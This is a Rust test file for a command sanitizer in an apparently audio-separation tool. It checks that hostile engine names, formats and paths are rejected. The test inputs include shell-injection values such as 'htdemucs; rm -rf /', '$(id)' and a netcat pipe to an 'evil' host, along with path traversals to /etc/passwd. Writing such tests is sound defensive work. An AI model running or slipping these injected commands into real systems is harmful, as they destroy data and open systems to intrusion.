// Hostile parameter values must never become argv or filesystem paths

use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;
use stembox::config::settings::GovernorConfig;
use stembox::safety::sanitizer::CommandSanitizer;
use stembox::testing::unique_scratch_root;
use stembox::JobError;

struct Root {
    path: PathBuf,
    sanitizer: CommandSanitizer,
}

impl Root {
    fn new(label: &str) -> Self {
        let path = unique_scratch_root(label);
        fs::create_dir_all(path.join("job")).unwrap();
        let config = GovernorConfig {
            scratch_root: path.clone(),
            ..GovernorConfig::default()
        };
        Self {
            sanitizer: CommandSanitizer::from_config(&config).unwrap(),
            path,
        }
    }
}

impl Drop for Root {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.path);
    }
}

#[test]
fn shell_metacharacters_in_engine_names() {
    let root = Root::new("engine-meta");
    for hostile in [
        "htdemucs; rm -rf /",
        "htdemucs && reboot",
        "$(id)",
        "`id`",
        "htdemucs | nc evil 1",
        "htdemucs\nid",
        "--help",
        "-o/etc",
        "",
        " htdemucs",
        "HTDEMUCS",
    ] {
        let err = root.sanitizer.validate_engine(hostile).unwrap_err();
        assert!(matches!(err, JobError::EngineRejected(_)), "{:?} accepted", hostile);
    }
    assert_eq!(root.sanitizer.validate_engine("mdx_extra_q").unwrap().as_str(), "mdx_extra_q");
}

#[test]
fn formats_outside_whitelist() {
    let root = Root::new("format");
    for hostile in ["exe", "mp3;id", "../mp3", "mp3 ", "sh"] {
        assert!(matches!(
            root.sanitizer.validate_format(hostile),
            Err(JobError::FormatRejected(_))
        ));
    }
    assert_eq!(root.sanitizer.validate_format("opus").unwrap().as_str(), "opus");
}

#[test]
fn paths_escaping_the_scratch_root() {
    let root = Root::new("escape");
    let job = root.path.join("job");
    fs::write(job.join("input.wav"), b"RIFF").unwrap();
    symlink("/etc/passwd", job.join("link.wav")).unwrap();

    assert!(root.sanitizer.validate_path(&job.join("input.wav")).is_ok());
    for hostile in [
        job.join("../../etc/passwd"),
        job.join("link.wav"),
        PathBuf::from("/etc/passwd"),
        root.path.clone(),
        job.join("missing.wav"),
    ] {
        let err = root.sanitizer.validate_path(&hostile).unwrap_err();
        assert!(matches!(err, JobError::PathRejected(_)), "{:?} accepted", hostile);
    }
}

#[test]
fn output_paths_must_land_inside_scratch() {
    let root = Root::new("output");
    let job = root.path.join("job");

    assert!(root.sanitizer.validate_output_path(&job.join("out.mp3")).is_ok());
    assert!(root.sanitizer.validate_output_path(&job.join("../../out.mp3")).is_err());
    assert!(root.sanitizer.validate_output_path(&PathBuf::from("/tmp/out.mp3")).is_err());
}
